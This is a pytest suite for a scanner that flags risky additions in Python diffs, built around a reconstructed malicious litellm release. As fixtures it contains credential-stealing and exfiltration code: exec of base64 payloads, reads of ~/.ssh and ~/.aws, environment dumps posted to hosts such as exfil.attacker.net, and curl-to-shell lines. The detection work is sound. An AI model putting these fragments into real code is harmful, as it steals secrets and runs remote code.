"""Risk signals in added or changed Python source (guard.artifacts.signals).

The first case is the malicious litellm 1.82.8 (2026-03-24): its diff against 1.82.6 adds a
base64 payload run by ``exec`` in ``proxy/proxy_server.py``, reads of ``~/.ssh`` and
``~/.aws``, and the environment posted to a new host. Each kind of signal has controls:
realistic legitimate code that must stay quiet, so the real signals are not drowned.
"""

from __future__ import annotations

import base64
import contextlib
import json
import signal
import textwrap
from collections.abc import Iterator

import pytest

from guard.artifacts.signals import (
    BLOB_LIMIT,
    KIND_BLOB,
    KIND_CREDENTIALS,
    KIND_ENV_DUMP,
    KIND_EXEC,
    KIND_LOADS,
    KIND_RUN_DOWNLOADED,
    KIND_URL,
    MAX_PER_KIND,
    SEVERITY,
    Signal,
    hosts,
    scan,
)

PAYLOAD_SOURCE = "\n".join(
    f"open('/tmp/.x{n}', 'w').write(repr(__import__('os').environ.get('K{n}')))" for n in range(120)
)
PAYLOAD = base64.b64encode(PAYLOAD_SOURCE.encode()).decode()

LITELLM = f'''\
import base64, os
import requests
from pathlib import Path

payload = "{PAYLOAD}"
exec(base64.b64decode(payload))


def _collect():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    aws = (Path.home() / ".aws" / "credentials").read_text()
    data = {{"env": dict(os.environ), "key": key, "aws": aws}}
    requests.post("https://models.litellm.cloud/", json=data)
'''


def code(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def found(signals: list[Signal]) -> list[tuple[str, int]]:
    return [(s.kind, s.line) for s in signals]


def kinds(text: str, old: str | None = None) -> set[str]:
    return {s.kind for s in scan("m.py", code(text), None if old is None else code(old))}


@contextlib.contextmanager
def deadline(seconds: int) -> Iterator[None]:
    """Fail instead of hanging when a scan goes quadratic (a generous bound, not a timing)."""
    if not hasattr(signal, "SIGALRM"):
        yield
        return

    def expired(signum: int, frame: object) -> None:
        raise AssertionError(f"scan still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


# --------------------------------------------------------------------------- litellm


def test_litellm_payload_is_reported_line_by_line() -> None:
    assert len(PAYLOAD) > 5000
    signals = scan("proxy/proxy_server.py", LITELLM, None)
    assert found(signals) == [
        (KIND_BLOB, 5),
        (KIND_EXEC, 6),
        (KIND_CREDENTIALS, 10),
        (KIND_CREDENTIALS, 11),
        (KIND_ENV_DUMP, 12),
        (KIND_URL, 13),
    ]
    by_kind = {s.kind: s for s in signals}
    assert by_kind[KIND_BLOB].detail == f"a {len(PAYLOAD):,}-character base64 blob"
    assert by_kind[KIND_EXEC].detail == "exec() of base64-decoded data"
    assert by_kind[KIND_EXEC].severity == "high"
    assert by_kind[KIND_URL].detail == "new host models.litellm.cloud"
    assert by_kind[KIND_ENV_DUMP].detail.endswith("on line 13 (as 'data')")
    assert [s.detail for s in signals if s.kind == KIND_CREDENTIALS] == [
        "reads ~/.ssh, SSH private key id_rsa",
        "reads ~/.aws",
    ]
    assert all(
        s.path == "proxy/proxy_server.py" and s.severity == SEVERITY[s.kind] for s in signals
    )


def test_only_new_lines_count() -> None:
    assert scan("proxy/proxy_server.py", LITELLM, LITELLM) == []
    old = LITELLM.replace("exec(base64.b64decode(payload))\n", "")
    signals = scan("proxy/proxy_server.py", LITELLM, old)
    assert found(signals) == [(KIND_EXEC, 6)]
    # a known host of the old release is not new; reordered lines are not new either
    lines = LITELLM.splitlines()
    assert scan("p.py", "\n".join(reversed(lines)), LITELLM) == []


def test_an_added_copy_of_an_existing_line_is_new() -> None:
    old = "exec(base64.b64decode(p))\n"
    assert found(scan("m.py", old + "x = 1\n" + old, old)) == [(KIND_EXEC, 3)]


def test_signal_data_and_severities() -> None:
    signal_ = scan("a/b.py", "import os\nprint(json.dumps(os.environ))\n", None)[0]
    assert signal_.to_data() == {
        "kind": KIND_ENV_DUMP,
        "severity": "medium",
        "path": "a/b.py",
        "line": 2,
        "detail": "dumps the whole environment: json.dumps(os.environ)",
    }
    assert {k for k, v in SEVERITY.items() if v == "high"} == {
        KIND_EXEC,
        KIND_RUN_DOWNLOADED,
        KIND_CREDENTIALS,
    }
    assert {k for k, v in SEVERITY.items() if v == "medium"} == {
        KIND_BLOB,
        KIND_LOADS,
        KIND_ENV_DUMP,
    }
    assert {k for k, v in SEVERITY.items() if v == "low"} == {KIND_URL}


# --------------------------------------------------------------------------- exec and taint


@pytest.mark.parametrize(
    ("source", "detail"),
    [
        ("exec(base64.b64decode(p))", "exec() of base64-decoded data"),
        ("eval(zlib.decompress(blob))", "eval() of zlib-decompressed data"),
        ("exec(codecs.decode(s, 'rot13'))", "exec() of codecs-decoded data"),
        ("exec(bytes.fromhex(h))", "exec() of hex-decoded data"),
        ("exec(s[::-1])", "exec() of reversed data"),
        ("exec(requests.get(URL).text)", "exec() of downloaded data"),
        ("exec(urllib.request.urlopen(URL).read())", "exec() of downloaded data"),
        ("builtins.exec(b64decode(p))", "exec() of base64-decoded data"),
        ('__builtins__["exec"](b64decode(p))', "exec() of base64-decoded data"),
        ("getattr(__builtins__, 'eval')(unhexlify(p))", "eval() of hex-decoded data"),
        ('__import__("builtins").exec(b64decode(p))', "exec() of base64-decoded data"),
        ("exec(compile(base64.b64decode(p), '<x>', 'exec'))", "exec() of base64-decoded data"),
    ],
)
def test_exec_of_decoded_or_downloaded_data(source: str, detail: str) -> None:
    assert [(s.kind, s.line, s.detail) for s in scan("m.py", source, None)] == [
        (KIND_EXEC, 1, detail)
    ]


def test_taint_follows_assignments() -> None:
    text = code(
        """
        import base64
        a = base64.b64decode(x)
        b = a.decode()
        c: str = "# header\\n" + b
        exec(c)
        """
    )
    assert [(s.kind, s.line, s.detail) for s in scan("m.py", text, None)] == [
        (KIND_EXEC, 5, "exec() of base64-decoded data ('c' from line 2)")
    ]
    one_line = "a = base64.b64decode(x); b = a.decode(); exec(b)\n"
    assert found(scan("m.py", one_line, None)) == [(KIND_EXEC, 1)]
    downloaded = "with urlopen(URL) as r:\n    exec(r.read())\n"
    assert found(scan("m.py", downloaded, None)) == [(KIND_EXEC, 2)]


def test_exec_of_local_source_is_quiet() -> None:
    text = """
        src = open(path).read()
        exec(compile(src, "f", "exec"))
        code = compile(tree, filename, "exec")
        exec(code, namespace)
        value = eval(expression, {"__builtins__": {}})
        """
    assert kinds(text) == set()


@pytest.mark.parametrize(
    "line",
    [
        "value = ast.literal_eval(text)",
        'PATTERN = re.compile(r"^(?P<name>[a-z]+)==(?P<version>.+)$")',
        'WORD = regex.compile(r"\\w+")',
        "model.eval()",
        "self.exec(command)",
        "data = base64.b64decode(blob)  # then written to a file, never executed",
        "text = payload.decode('utf-8')",
    ],
)
def test_exec_look_alikes_are_quiet(line: str) -> None:
    assert scan("m.py", line, None) == []


def test_marshal_and_zlib_loads() -> None:
    text = code(
        """
        code = marshal.loads(zlib.decompress(blob))
        exec(marshal.loads(zlib.decompress(blob)))
        obj = pickle.loads(base64.b64decode(state))
        obj = pickle.loads(data)
        raw = lzma.decompress(packed)
        """
    )
    assert [(s.kind, s.line, s.detail) for s in scan("m.py", text, None)] == [
        (KIND_LOADS, 1, "marshal.loads() of zlib-decompressed data"),
        (KIND_EXEC, 2, "exec() of unmarshalled data"),
        (KIND_LOADS, 3, "pickle.loads() of base64-decoded data"),
        (KIND_LOADS, 5, "lzma.decompress() call added"),
    ]


# --------------------------------------------------------------------------- encoded blobs


def test_blob_split_over_lines_in_a_triple_quoted_string() -> None:
    b64 = base64.b64encode(bytes(range(256)) * 23).decode()
    chunks = [b64[n : n + 76] for n in range(0, 76 * 100, 76)]
    text = 'import base64\nBLOB = """\n' + "\n".join(chunks) + '\n"""\nx = 1\n'
    assert [(s.kind, s.line, s.detail) for s in scan("m.py", text, None)] == [
        (KIND_BLOB, 3, "a 7,600-character base64 blob over 100 lines")
    ]
    concatenated = "BLOB = (\n" + "\n".join(f'    "{c}"' for c in chunks) + "\n)\n"
    assert found(scan("m.py", concatenated, None)) == [(KIND_BLOB, 2)]
    first_on_the_opening_line = (
        'BLOB = b"' + chunks[0] + '" \\\n' + "\n".join(f'    b"{c}" \\' for c in chunks[1:])
    )
    assert found(scan("m.py", first_on_the_opening_line, None)) == [(KIND_BLOB, 1)]


def test_blob_threshold_and_alphabets() -> None:
    def blob(text: str) -> list[str]:
        return [s.detail for s in scan("m.py", text, None) if s.kind == KIND_BLOB]

    assert blob(f'x = "{"Ab1+" * 1000}"') == []  # 4,000 characters
    assert blob(f'x = "{"A" * BLOB_LIMIT}"') == []
    assert blob(f'x = "{"A" * (BLOB_LIMIT + 1)}"') == ["a 4,097-character base64 blob"]
    assert blob(f'x = "{"-_aZ" * 1500}=="') == ["a 6,002-character base64 blob"]  # urlsafe
    assert blob(f'x = bytes.fromhex("{"0a1b2c3d" * 700}")') == ["a 5,600-character hex blob"]
    hex_lines = "\n".join(f'    "{"deadbeef01" * 8}"' for _ in range(60))
    assert blob(f"KEY = (\n{hex_lines}\n)") == ["a 4,800-character hex blob over 60 lines"]


def test_blob_look_alikes_are_quiet() -> None:
    ordinary = "values = [" + ", ".join(f"compute(item_{n}, key={n})" for n in range(400)) + "]"
    assert len(ordinary) > 2 * BLOB_LIMIT
    digest = "hashlib.sha256(data).hexdigest() == " + repr("ab" * 32)
    # A list of hashes is data, not one encoded string: the commas break the run.
    hashes = "KNOWN = [\n" + "".join(f'    "{n:064x}",\n' for n in range(200)) + "]\n"
    words = "WORDS = '''\n" + "\n".join(["lorem ipsum dolor sit amet"] * 400) + "\n'''\n"
    for text in (ordinary, digest, hashes, words):
        assert scan("m.py", text, None) == []


# --------------------------------------------------------------------------- hosts


def test_new_hosts_once_per_file_and_known_hosts() -> None:
    text = code(
        """
        API = "https://API.OpenAI.com/v1"
        BACKUP = "https://api.openai.com/v2"
        DOCS = "see https://docs.example.com and http://localhost:8000/ and https://example.org"
        NS = "http://www.w3.org/2001/XMLSchema"
        requests.post("https://user:pw@exfil.attacker.net:8443/x", data=data)
        sock.connect(("203.0.113.7", 4444))
        TARGET = "198.51.100.9:8080"
        __version__ = "1.2.3.4"
        VERSION_INFO = "10.0.0.256"
        TEMPLATE = f"https://{host}/path"
        """
    )
    assert [(s.line, s.detail) for s in scan("m.py", text, None)] == [
        (1, "new host api.openai.com"),
        (5, "new host exfil.attacker.net"),
        (6, "new host 203.0.113.7"),
        (7, "new host 198.51.100.9"),
    ]
    known = frozenset({"api.openai.com"})
    assert [s.line for s in scan("m.py", text, None, known_hosts=known)] == [5, 6, 7]


def test_hosts_collects_every_hard_coded_host() -> None:
    text = code(
        """
        A = "https://Files.PythonHosted.org/packages/x"
        B = 'ftp://mirror.example.net/pub'  # hosts() keeps example hosts; scan() skips them
        C = "wss://stream.service.io/feed"
        D = socket.create_connection(("192.0.2.10", 443))
        E = "10.1.2.3:5432"
        F = "http://%s/" % host
        __version__ = "1.2.3.4"
        """
    )
    assert hosts(text) == {
        "files.pythonhosted.org",
        "mirror.example.net",
        "stream.service.io",
        "192.0.2.10",
        "10.1.2.3",
    }


# --------------------------------------------------------------------------- credentials


@pytest.mark.parametrize(
    ("line", "detail"),
    [
        (
            'key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()',
            "reads ~/.ssh, SSH private key id_ed25519",
        ),
        ('p = Path.home() / ".ssh" / "authorized_keys"', "reads ~/.ssh, ~/.ssh/authorized_keys"),
        ('p = os.path.join(home, ".aws", "credentials")', "reads ~/.aws"),
        ('p = expanduser("~/.kube/config")', "reads ~/.kube"),
        (
            'p = HOME + "/.config/gcloud/application_default_credentials.json"',
            "reads ~/.config/gcloud, gcloud credentials",
        ),
        ('p = home / ".docker" / "config.json"', "reads ~/.docker"),
        (
            'for name in (".netrc", ".pypirc", ".git-credentials"):',
            "reads ~/.netrc, ~/.pypirc, ~/.git-credentials",
        ),
        ('load(Path.cwd() / ".env")', "reads a .env file"),
        ("load('/app/.env')", "reads a .env file"),
        ('load(".envrc")', "reads a .envrc file"),  # direnv files hold secrets too
        ('p = home() / ".azure"', "reads ~/.azure"),
    ],
)
def test_credential_reads(line: str, detail: str) -> None:
    assert [(s.kind, s.detail) for s in scan("m.py", line, None)] == [(KIND_CREDENTIALS, detail)]


@pytest.mark.parametrize(
    "line",
    [
        'home = os.environ.get("HOME")',
        "self.env = env",
        'venv = Path(".venv")',
        'subprocess.run([sys.executable, "-m", "venv", path])',
        "client = paramiko.SSHClient(); self.ssh = client",
        "from cryptography.x509.oid import NameOID as id_rsa_oid",
        'config = load(".environment.yaml")',
        "dotenv.load_dotenv()",
        "# .netrc might have more auth for us on our new host.",
    ],
)
def test_credential_look_alikes_are_quiet(line: str) -> None:
    assert scan("m.py", line, None) == []


def test_output_is_bounded_per_kind() -> None:
    text = "".join(f'p{n} = "~/.ssh/key{n}"\n' for n in range(MAX_PER_KIND + 20))
    signals = scan("m.py", text, None)
    assert len(signals) == MAX_PER_KIND + 1
    assert signals[-1].line == MAX_PER_KIND + 1
    assert signals[-1].detail == f"20 more {KIND_CREDENTIALS} signals not listed"


# --------------------------------------------------------------------------- environment


@pytest.mark.parametrize(
    "text",
    [
        "payload = json.dumps(os.environ)",
        "log.write(str(os.environ))",
        "print(repr(os.environ))",
        "blob = json.dumps(dict(os.environ), indent=2)",
        'out = os.popen("env").read()',
        'out = subprocess.check_output(["printenv"])',
        'requests.post("https://collector.invalid/", json=dict(os.environ))',
        "urlopen(URL, data=json.dumps(dict(os.environ)).encode())",
        "env = os.environ.copy()\nsock.sendall(pickle.dumps(env))",
        "env = {**os.environ}\nwith open(p, 'w') as f:\n    json.dump(env, f)",
    ],
)
def test_environment_dumps(text: str) -> None:
    assert [s.kind for s in scan("m.py", text, None)] == [KIND_ENV_DUMP]


def test_environment_copies_for_subprocesses_are_quiet() -> None:
    text = """
        subprocess.run(cmd, env=dict(os.environ, FOO="1"), check=True)
        env = os.environ.copy()
        env["PYTHONPATH"] = str(root)
        subprocess.run([sys.executable, "-c", "pass"], env=env, check=True)
        proc = subprocess.Popen(cmd, env={**os.environ, "LANG": "C"})
        for key, value in os.environ.items():
            if key.startswith("BUMPGUARD_"):
                settings[key] = value
        out.write(json.dumps(settings))
        sys.stdout.write(os.environ.get("TERM", ""))
        requests.post(url, headers={"Authorization": os.environ["TOKEN"]})
        """
    assert kinds(text) == set()


def test_environment_capture_reported_at_the_new_line() -> None:
    old = "data = dict(os.environ)\nprint(len(data))\n"
    new = "data = dict(os.environ)\nprint(len(data))\nrequests.post(URL, json=data)\n"
    assert found(scan("m.py", new, old)) == [(KIND_ENV_DUMP, 3)]


# --------------------------------------------------------------------------- run-downloaded


def test_running_what_was_downloaded() -> None:
    text = code(
        """
        p, _ = urllib.request.urlretrieve(url)
        subprocess.run([p], check=True)
        urllib.request.urlretrieve(URL, "/tmp/.updater")
        os.system("chmod +x /tmp/.updater && /tmp/.updater")
        body = requests.get(URL).content
        open(target, "wb").write(body)
        subprocess.Popen([target])
        with urlopen(URL) as response, open(dest, "wb") as out:
            out.write(response.read())
        os.execv(dest, [dest])
        os.system(base64.b64decode(command))
        subprocess.run(["git", "status"], check=True)
        """
    )
    assert [(s.kind, s.line, s.detail) for s in scan("m.py", text, None)] == [
        (KIND_RUN_DOWNLOADED, 2, "subprocess.run() runs downloaded data ('p' from line 1)"),
        (KIND_RUN_DOWNLOADED, 4, "os.system() runs the file downloaded to '/tmp/.updater'"),
        (KIND_RUN_DOWNLOADED, 7, "subprocess.Popen() runs downloaded data ('target' from line 5)"),
        (KIND_RUN_DOWNLOADED, 10, "os.execv() runs downloaded data ('dest' from line 8)"),
        (KIND_RUN_DOWNLOADED, 11, "os.system() runs base64-decoded data"),
    ]


@pytest.mark.parametrize(
    "line",
    [
        'os.system("curl -s https://evil.sh | sh")',
        'subprocess.run("wget -qO- http://x.invalid/i | sudo bash", shell=True)',
        'CMD = "curl -fsSL https://get.invalid/install | python3 -"',
        'ps = "iwr https://x.invalid/a.ps1 | iex"',
    ],
)
def test_download_piped_to_a_shell(line: str) -> None:
    assert KIND_RUN_DOWNLOADED in {s.kind for s in scan("m.py", line, None)}


@pytest.mark.parametrize(
    "line",
    [
        'subprocess.run(["git", "status"], check=True)',
        'subprocess.run(["curl", "-o", out, url], check=True)',
        "# install rust: curl https://sh.rustup.rs | sh",
        "result = a | shift",
        'subprocess.check_output(["tar", "xf", archive]).decode()',
    ],
)
def test_run_look_alikes_are_quiet(line: str) -> None:
    assert KIND_RUN_DOWNLOADED not in {s.kind for s in scan("m.py", line, None)}


# --------------------------------------------------------------------------- hostile text


def test_huge_and_hostile_inputs_complete() -> None:
    with deadline(60):
        ones = scan("a.py", "A" * 20_000_000, None)
        assert found(ones) == [(KIND_BLOB, 1)]
        assert ones[0].detail == "a 20,000,000-character base64 blob"
        assert scan("b.py", "a=(" * 7_000_000, None) == []
        lines = [f"value_{n} = compute(item_{n}, key='k{n % 7}')" for n in range(200_000)]
        lines[150_000] = "exec(base64.b64decode(value_1))"
        many = "\n".join(lines)
        assert len(many) > 5_000_000
        assert found(scan("c.py", many, None)) == [(KIND_EXEC, 150_001)]
        repeated = "exec(" * 4_000_000 + "\n" + "'.ssh' " * 1_000_000
        assert found(scan("d.py", repeated, None)) == [(KIND_CREDENTIALS, 2)]


def test_details_are_escaped() -> None:
    text = code(
        """
        os.system("curl https://e\\x1b[2Kvil.invalid/\\u202e | sh \\ud800")
        URL = "https://evil.attacker.io\\x1b[2K\\u202e/x"
        json.dumps(os.environ)\\x1b[2K
        """
    )
    text = text.encode().decode("unicode_escape", "surrogatepass")
    assert "\x1b" in text and "\u202e" in text and "\ud800" in text
    signals = scan("m.py", text, None)
    assert {s.kind for s in signals} == {KIND_RUN_DOWNLOADED, KIND_URL, KIND_ENV_DUMP}
    for s in signals:
        assert not any(c in s.detail for c in ("\x1b", "\u202e", "\ud800")), s.detail
        assert s.detail.isprintable() and len(s.detail) <= 300
    json.dumps([s.to_data() for s in signals]).encode("utf-8")


def test_broken_and_python2_sources_do_not_crash() -> None:
    text = (
        code(
            """
        print "hello"
        exec code in namespace
        exec(base64.b64decode(
        def f(:
            return urllib2.urlopen(u).read(
        x = ) = (
        """
        )
        + "\r\nexec(zlib.decompress(b))\r\n"
    )
    assert found(scan("m.py", text, None)) == [(KIND_EXEC, 3), (KIND_EXEC, 8)]
